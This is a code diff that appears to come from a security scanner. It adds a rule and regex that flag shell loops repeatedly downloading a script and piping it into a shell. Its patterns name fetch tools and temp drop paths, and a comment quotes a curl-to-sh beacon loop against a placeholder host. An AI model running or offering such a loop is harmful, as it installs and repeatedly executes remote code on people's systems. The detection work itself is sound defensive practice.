@@ -16,6 +16,9 @@ const FETCH_EXEC: Clause = {
   ],
 }
 
+/** A shell loop (`while true; do ... done`, `until`, `for`) or `watch` re-running a command. */
+const LOOP = /\b(?:while|until|for)\b[^;]*;\s*do\b[\s\S]*\bdone\b|\bwatch\s+(?:-\S+\s+)*(?:-n\s*\S+\s+)?/
+
 const FETCH = /\b(?:curl|wget|tftp|fetch|aria2c)\b/
 const TEMP_OR_HIDDEN_DEST = /(?:\s-O\s*|\s-o\s*|--output(?:-document)?[=\s]|>\s*|\s-P\s*)["']?(?:(?:\/tmp|\/var\/tmp|\/dev\/shm|\/run\/shm)\/|\S*\/\.[^/\s.][^/\s]*(?:\s|$))|\bcd\s+(?:\/tmp|\/var\/tmp|\/dev\/shm)\b/
 const SHM_OR_HIDDEN_DEST = /(?:\s-O\s*|\s-o\s*|--output(?:-document)?[=\s]|>\s*|\s-P\s*)["']?(?:\/dev\/shm\/|\/run\/shm\/|\S*\/\.[^/\s.][^/\s]*(?:\s|$))/
@@ -74,6 +77,19 @@ export const networkRules: readonly Rule[] = [
         return false
       }
       return urls.find((u) => !vetted(u))?.host ?? 'unresolved URL'
+    },
+  },
+  {
+    // Atomic Red Team T1105 / T1059.004: `while true; do curl -s http://host/s.sh | sh; sleep 60; done`.
+    // Fetching and running a script again and again is a dropper's beacon whatever the host:
+    // an internal or https source does not make it an installer.
+    id: 'download_exec_loop', category: 'suspicious_network', severity: 'high', scope: 'static',
+    description: 'A download piped into a shell or interpreter over and over (a dropper or C2 beacon loop)',
+    test: (_, c) => {
+      if (!LOOP.test(c.line) || !holds(FETCH_EXEC, c.line)) {
+        return false
+      }
+      return urlsIn(c.line)[0]?.host ?? 'unresolved URL'
     },
   },
   {
